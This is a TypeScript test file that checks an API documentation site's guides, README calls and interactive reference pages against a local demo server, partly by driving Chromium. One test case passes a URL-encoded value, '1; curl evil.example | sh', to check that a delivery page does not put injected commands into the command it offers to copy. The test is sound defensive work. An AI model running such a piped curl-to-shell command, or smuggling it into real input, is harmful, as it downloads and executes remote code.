import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { SAMPLE_ADDRESS, SAMPLE_KEY } from '../../infra/docs/page.ts';
import { buildSite } from '../../infra/docs/site.ts';
import { sitePath } from '../../infra/docs/site-path.ts';
import { pagesWith } from '../../infra/local/http/documentation.ts';
import type { Pages } from '../../infra/local/http/http-api.ts';
import { OPERATIONS } from '../../infra/operations.ts';
import { findSamples } from '../../infra/operator/demo/samples.ts';
import { type Demo, startDemo } from '../end-to-end/demo.ts';
import { findChromium, startChromium } from '../local/door/chromium.ts';
import { type LoopbackServer, startServer } from '../local/door/loopback-server.ts';
import { pythonWithHttpx } from '../support/python.ts';
import { has } from './programs.ts';

/**
 * The guides and the form that tries a request, against the functions: what a reader copies or clicks works.
 * samples.test.ts covers the samples of the reference; webhooks and following have their own tests.
 */
const CLIENT = fileURLToPath(new URL('../../clients/python/src', import.meta.url));
/** The samples use the client in clients/python, which needs httpx (Debian: python3-httpx). */
const python = pythonWithHttpx();
const chromium = findChromium() ?? '';
const GUIDES = [...buildSite()].filter(
  ([path]) =>
    path === '/index.md' || (/^\/docs\/guides\/.*\.md$/.test(path) && !/webhooks|following/.test(path)),
);
/** The only request of the guides that is a deliberate mistake. */
const MISTAKE = '/v0/jobs?roles=backend-enginering';

let demo: Demo;
let server: LoopbackServer;
let pages: Pages;
let folder: string;
/** Status and target of each request that the server answered. */
let answered: [number, string][] = [];
/** Targets that fail once, like a service that is away for a moment. */
const failing = new Set<string>();
/** What a page reported. */
let report: (text: string) => void = () => undefined;
let script = '';

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'guides-'));
  demo = await startDemo({ engine: 'memory' });
  const samples = await findSamples(demo.table, demo.lines);
  pages = pagesWith(() => ({ api_key: demo.apiKey, samples }));
  server = await startServer(async (incoming, response) => {
    const target = incoming.url ?? '/';
    if (target === '/report') {
      let body = '';
      for await (const chunk of incoming) body += chunk;
      response.end();
      report(body);
      return;
    }
    if (target === '/check.js') {
      response.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
      return;
    }
    // The site of a deployment keeps its pages of deliveries for links of earlier releases; a laptop serves the portal
    // there.
    const kept = target.startsWith('/app/') ? buildSite().get(sitePath(target)) : undefined;
    const page =
      kept === undefined
        ? pages({ path: target, address: `http://${incoming.headers.host}`, ifNoneMatch: undefined })
        : { headers: [['content-type', kept.type] as const], body: kept.body };
    if (page !== undefined) {
      for (const [name, value] of page.headers) response.appendHeader(name, value);
      response.end(page.body.toString().replace('</head>', '<script src="/check.js" defer></script></head>'));
      return;
    }
    if (failing.delete(target)) {
      answered.push([503, target]);
      response.writeHead(503, { 'content-type': 'application/problem+json', 'retry-after': '0' });
      response.end(
        JSON.stringify({ code: 'service_unavailable', detail: 'away', request_id: 'r', retryable: true }),
      );
      return;
    }
    const { authorization = '', 'if-none-match': known } = incoming.headers;
    const answer = await demo.get(target, {
      authorization,
      ...(known === undefined ? {} : { 'if-none-match': known }),
    });
    answered.push([answer.status, target]);
    response.writeHead(answer.status, answer.headers).end(answer.text);
  });
});
afterAll(async () => {
  await server.stop();
  await demo.stop();
  rmSync(folder, { recursive: true, force: true });
});

/** The code blocks of the guides in one language, for this server. */
const blocks = (language: string): readonly string[] =>
  GUIDES.flatMap(([, { body }]) =>
    [...body.matchAll(new RegExp(`^\`\`\`${language}(?: title=\\w+)?\\n(.*?)\\n\`\`\`$`, 'gms'))].map(
      ([, code = '']) =>
        code
          .replaceAll(SAMPLE_ADDRESS, `http://127.0.0.1:${server.port}`)
          .replaceAll(SAMPLE_KEY, demo.apiKey),
    ),
  );

async function run(command: string, options: readonly string[], name: string, code: string): Promise<string> {
  const file = join(folder, name);
  writeFileSync(file, code);
  answered = [];
  const child = spawn(command, [...options, file], {
    env: { ...process.env, PYTHONPATH: CLIENT, PYTHONDONTWRITEBYTECODE: '1' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let output = '';
  let complaint = '';
  child.stdout.on('data', (chunk) => {
    output += chunk;
  });
  child.stderr.on('data', (chunk) => {
    complaint += chunk;
  });
  const status = await new Promise((done) => child.on('close', done));
  if (status !== 0) throw new Error(`${name}: ${complaint}`);
  return output;
}

/** Ids of all remote jobs, page by page, as the pagination guide reads them. */
async function remoteIds(): Promise<readonly string[]> {
  const ids: string[] = [];
  for (let cursor: string | null = ''; cursor !== null; ) {
    const more: string = cursor === '' ? '' : `&cursor=${cursor}`;
    const { json } = await demo.get(`/v0/jobs?work_arrangements=remote&limit=100${more}`);
    ids.push(...json.data.map(({ id }: { id: string }) => id));
    cursor = json.next_cursor;
  }
  return ids;
}

test('the calls of the README answer what its comments say', async () => {
  const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8');
  const calls = [...readme.matchAll(/^get ['"](\S+)['"] +# (\{.*?)…?$/gm)];
  expect(calls.length).toBeGreaterThan(12);
  const [job, company] = await Promise.all(
    ['jobs', 'companies'].map(async (list) => (await demo.get(`/v0/${list}?limit=100`)).json.data),
  );
  const id = {
    JOB: job.find(({ content_available }: { content_available: boolean }) => content_available).id,
    COMPANY: company[0].id,
  };
  for (const [, path = '', beginning = ''] of calls) {
    const target = path.replace('$JOB', id.JOB).replace('$COMPANY', id.COMPANY);
    const { status, text, json } = await demo.get(target);
    // The catalogue of this demo has few places.
    if (json.data?.length === 0) continue;
    expect([target, status, text.slice(0, beginning.length)]).toEqual([target, 200, beginning]);
  }
});

describe('the examples of the guides', () => {
  (has('curl') ? test : test.skip)('work in a shell (skipped without curl)', async () => {
    const code = blocks('sh').map((block) => block.replaceAll('curl ', 'curl -sS '));
    expect(code.length).toBeGreaterThanOrEqual(7);
    const output = await run('sh', ['-e'], 'guides.sh', code.join('\necho\n'));
    const refused = answered.filter(([status]) => status !== 200);
    expect(refused).toEqual([[400, MISTAKE]]);
    expect(output).toContain('near it are \\"backend-engineering\\"');
    expect(output).toMatch(/svc-cost-usd: 0\.00\d/);

    const [, etag = ''] = /etag: (".*?")/i.exec(output) ?? [];
    const [revalidation] = code.filter((block) => block.includes('<ETAG>'));
    await run('sh', ['-e'], 'cached.sh', revalidation?.replace('"<ETAG>"', etag) ?? '');
    expect(answered.map(([status]) => status)).toEqual([200, 304]);
  });

  test('work in TypeScript', async () => {
    failing.add('/v0/jobs?limit=7');
    const all = blocks('ts');
    const definitions = all.filter((code) => /^async function/m.test(code));
    expect([all.length, definitions.length]).toEqual([7, 2]);
    const requests = all.filter((code) => !definitions.includes(code)).map((code) => `{${code}}`);
    const output = await run(
      process.execPath,
      ['--no-warnings'],
      'guides.mts',
      `${definitions.join('\n')}
const ids: string[] = [];
for await (const job of jobs({ work_arrangements: 'remote' })) ids.push(job.id);
const page = await get(new URL('http://127.0.0.1:${server.port}/v0/jobs?limit=7'));
const refusal = await get(new URL('http://127.0.0.1:${server.port}/v0/jobs?foo=1')).catch(({ message }) => message);
console.log('RESULT' + JSON.stringify({ ids, retried: page.data.length, refusal }));
${requests.join('\n')}`,
    );
    await expectResult(output);
  });

  (python === null ? test.skip : test)('work in Python (skipped without Python and httpx)', async () => {
    failing.add('/v0/jobs?limit=7');
    const all = blocks('python');
    const definitions = all.filter((code) => /^def /m.test(code));
    expect([all.length, definitions.length]).toEqual([7, 2]);
    const output = await run(
      python ?? '',
      [],
      'guides.py',
      `${[...all.filter((code) => !definitions.includes(code)), ...definitions].join('\n\n')}
ids = [job["id"] for job in jobs(work_arrangements="remote")]
page = get("http://127.0.0.1:${server.port}/v0/jobs?limit=7")
try:
    refusal = get("http://127.0.0.1:${server.port}/v0/jobs?foo=1")
except RuntimeError as error:
    refusal = str(error)
print("RESULT" + json.dumps({"ids": ids, "retried": len(page["data"]), "refusal": refusal}))
`,
    );
    await expectResult(output);
  });

  async function expectResult(output: string): Promise<void> {
    const result = JSON.parse(/^RESULT(.*)$/m.exec(output)?.[1] ?? '{}');
    expect(result).toMatchObject({ retried: 7, refusal: expect.stringMatching(/^invalid_request: .*foo/) });
    expect(result.ids).toEqual(await remoteIds());
    expect(result.ids.length).toBeGreaterThan(0);
    const refused = answered.filter(([status]) => status !== 200).map(([status]) => status);
    expect(refused).toEqual([503, 400]);
  }
});

test('every request that a page tries finds something in the demo that the page is shown with', async () => {
  const tried: [string, string][] = [];
  for (const [path] of buildSite()) {
    const page = pages({ path, address: `http://127.0.0.1:${server.port}`, ifNoneMatch: undefined });
    const html = page?.body.toString() ?? '';
    for (const [, target = ''] of html.matchAll(/ value="(\/v0\/[^"]*)"/g)) {
      tried.push([path, target.replaceAll('&amp;', '&')]);
    }
  }
  expect(tried.length).toBeGreaterThan(OPERATIONS.length);
  for (const [path, target] of tried) {
    const { status, json } = await demo.get(target, { authorization: `Bearer ${demo.apiKey}` });
    expect([path, target, status]).toEqual([path, target, target === MISTAKE ? 400 : 200]);
    // This demo has few places, and a company's name comes from the recorded market.
    if (/locations|query=/.test(target)) continue;
    expect([path, target, json.data?.length]).not.toEqual([path, target, 0]);
  }
});

/** Does in a page of the reference what a reader does with keys and clicks, and reports what is visible. */
const READER = `
const until = async (found) => {
  for (let turn = 0; turn < 500; turn += 1) {
    const value = found();
    if (value) return value;
    await new Promise((done) => setTimeout(done, 20));
  }
};
const press = (target, key) =>
  target.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, cancelable: true }));
addEventListener('load', async () => {
  document.querySelector('.run').click();
  const charge = await until(() => document.querySelector('.answer .charge'));
  const shown = [...document.querySelectorAll('.answer pre')].map((each) => each.textContent);
  const field = document.querySelector('.try input');
  field.value = '/v0/jobs?foo=1';
  press(field, 'Enter');
  const refused = await until(() => document.querySelector('.answer .charge strong')?.textContent === '400');
  field.value = 'https://elsewhere.example/v0/jobs';
  press(field, 'Enter');
  const elsewhere = await until(() => /does not answer/.test(document.querySelector('.answer').textContent));
  press(document.body, '/');
  const search = document.activeElement;
  search.value = 'insufficient credits';
  search.dispatchEvent(new InputEvent('input', { bubbles: true }));
  const first = await until(() => document.querySelector('#results a'));
  press(search, 'ArrowDown');
  const focused = document.activeElement === first;
  press(first, 'Escape');
  const theme = document.querySelector('.theme');
  theme.click();
  const tabs = [...document.querySelectorAll('[role=tab]')].slice(0, 3);
  tabs[0].focus();
  press(tabs[0], 'ArrowRight');
  await fetch('/report', {
    method: 'POST',
    body: JSON.stringify({
      charge: charge?.textContent,
      shown,
      refused,
      elsewhere,
      search: search.id,
      first: first?.getAttribute('href'),
      focused,
      closed: document.querySelector('#results').hidden,
      theme: document.documentElement.dataset.theme,
      tab: document.activeElement.textContent,
      hosts: [...new Set(performance.getEntriesByType('resource').map(({ name }) => new URL(name).host))],
    }),
  });
});
`;

(chromium === '' ? test.skip : test)(
  'a page of the reference tries its request, searches and takes keys, without another host (skipped without Chromium)',
  async () => {
    script = READER;
    answered = [];
    const reported = new Promise<string>((done) => {
      report = done;
    });
    const browser = startChromium(chromium, `http://127.0.0.1:${server.port}/docs/reference/list-jobs`, [
      '--window-size=1400,900',
      '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1',
    ]);
    const seen = JSON.parse(await reported);
    await browser.stop();
    expect(seen).toEqual({
      charge: expect.stringMatching(/^200 Charged \$0\.001 for 1 returned\. \$[\d.]+ left\.$/),
      shown: [
        expect.stringMatching(/^HTTP\/1\.1 200 OK\n[\s\S]*svc-cost-usd: 0\.001\n/),
        expect.stringContaining('"object": "job"'),
      ],
      refused: true,
      elsewhere: true,
      search: 'search',
      first: '/docs/errors/insufficient-credits',
      focused: true,
      closed: true,
      theme: 'light',
      tab: 'TypeScript',
      hosts: [`127.0.0.1:${server.port}`],
    });
    // The address of another host received no request.
    expect(answered.map(([status]) => status)).toEqual([200, 400]);
  },
  120_000,
);

/** What the page of a delivery offers to copy, and whether the rest of the page came alive. */
const DELIVERY_READER = `
addEventListener('load', () => {
  document.body.dispatchEvent(new KeyboardEvent('keydown', { key: '/', bubbles: true }));
  const shown = [...document.querySelectorAll('main code')].map((code) => code.textContent.trim());
  const focused = document.activeElement.id;
  fetch('/report', { method: 'POST', body: JSON.stringify({ shown, focused }) });
});
`;
const EVENT = '01a1ff66-6d92-7a68-8fda-7700e2a64ede';

(chromium === '' ? test.skip : test).each([
  [EVENT, EVENT],
  [EVENT.toUpperCase(), EVENT.toUpperCase()],
  // A command that someone else wrote into a link.
  ['1%3B%20curl%20evil.example%20%7C%20sh', 'EVENT_ID'],
  ['%E0%A4', 'EVENT_ID'],
])('the page of the delivery %s names %s (skipped without Chromium)', async (given, named) => {
  script = DELIVERY_READER;
  const reported = new Promise<string>((done) => {
    report = done;
  });
  const url = `http://127.0.0.1:${server.port}/app/deliveries/${given}`;
  const browser = startChromium(chromium, url, ['--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1']);
  const seen = JSON.parse(await reported);
  await browser.stop();
  expect(seen).toEqual({
    shown: [named, `npm run ops -- deliveries show ${named}`],
    focused: 'search',
  });
});
